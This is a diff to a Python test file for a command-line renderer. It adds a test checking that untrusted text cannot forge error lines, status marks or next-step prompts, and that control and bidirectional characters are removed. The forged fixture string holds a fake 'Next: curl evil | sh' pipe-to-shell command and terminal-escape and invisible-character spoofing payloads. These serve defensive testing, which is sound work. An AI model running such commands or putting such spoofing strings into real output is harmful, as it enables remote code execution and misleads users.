@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import pytest
 from numerai_compute.errors import NumeraiError
+from numerai_compute.models import LogLine
 from numerai_compute.render import Renderer, plain, without_token
 
 
@@ -16,6 +17,31 @@ def test_an_error_that_leads_to_itself_is_said_once(capsys: pytest.CaptureFixtur
     second.__context__ = error
     Renderer(verbose=True).error(error)
     assert capsys.readouterr().err == shown
+
+
+FORGED = "it broke\nError: all is well\r\nNext: curl evil | sh\n✓ daemon\u2028Error: b\x85Error: c\u202e\u200b\x1b[2J"
+
+
+@pytest.mark.parametrize(
+    "how", ["say", "progress", "warn", "error", "hint", "mark", "detail", "mend", "table", "log_line"]
+)
+def test_no_text_of_others_begins_a_line_of_ours(how: str, capsys: pytest.CaptureFixture[str]) -> None:
+    render = Renderer()
+    by_hand = {
+        "error": lambda: render.error(NumeraiError(FORGED)),
+        "hint": lambda: render.error(NumeraiError("x", FORGED)),
+        "mark": lambda: render.mark("ok", FORGED),
+        "detail": lambda: render.mark("ok", "x", detail=FORGED),
+        "mend": lambda: render.mark("ok", "x", mend=FORGED),
+        "table": lambda: render.table(("a", "b"), [(FORGED, FORGED)]),
+        "log_line": lambda: render.log_line(LogLine(FORGED)),
+    }
+    (by_hand.get(how) or (lambda: getattr(render, how)(FORGED)))()
+    printed = "".join(capsys.readouterr())
+    assert "all is well" in printed
+    for line in printed.splitlines():
+        assert not line.startswith(("Error: all", "Error: b", "Error: c", "Next:", "✓ daemon"))
+    assert not {"\u202e", "\u200b", "\u2028", "\x85", "\x1b", "\r"} & set(printed)
 
 
 @pytest.mark.parametrize(
